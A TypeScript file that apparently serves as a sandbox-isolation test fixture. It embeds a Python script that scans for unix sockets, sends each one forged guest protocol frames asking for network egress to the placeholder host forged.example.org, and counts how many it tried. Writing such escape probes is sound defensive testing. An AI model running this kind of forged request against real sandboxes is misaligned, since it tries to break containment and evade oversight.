/**
 * A program for root in a sandbox. It connects to every unix socket that it finds, says what a guest would
 * say there, and opens a connection to `forged.example.org`.
 */
export const FORGE = `
import os, socket
frame = lambda kind, stream, body: len(body).to_bytes(4, 'big') + bytes([kind, 0, 0, 0]) + stream.to_bytes(4, 'big') + body
text = lambda value: bytes([0x60 + len(value)]) + value if len(value) < 24 else bytes([0x78, len(value)]) + value
opened = bytes([0xa3]) + text(b'op') + text(b'egress') + text(b'name') + text(b'forged.example.org') + text(b'port') + b'\\x19\\x01\\xbb'
hello = bytes([0xa1]) + text(b'protocol') + b'\\x01'
paths = {line.split()[-1] for line in open('/proc/net/unix') if '/' in line}
for folder, _, files in os.walk('/run'):
    paths |= {os.path.join(folder, file) for file in files if file.endswith('.sock')}
tried = 0
for path in paths:
    try:
        one = socket.socket(socket.AF_UNIX); one.settimeout(1); one.connect(path)
        one.sendall(frame(1, 0, hello) + frame(2, 2, opened)); tried += 1; one.recv(4096)
    except OSError: pass
print('tried', tried)
`;
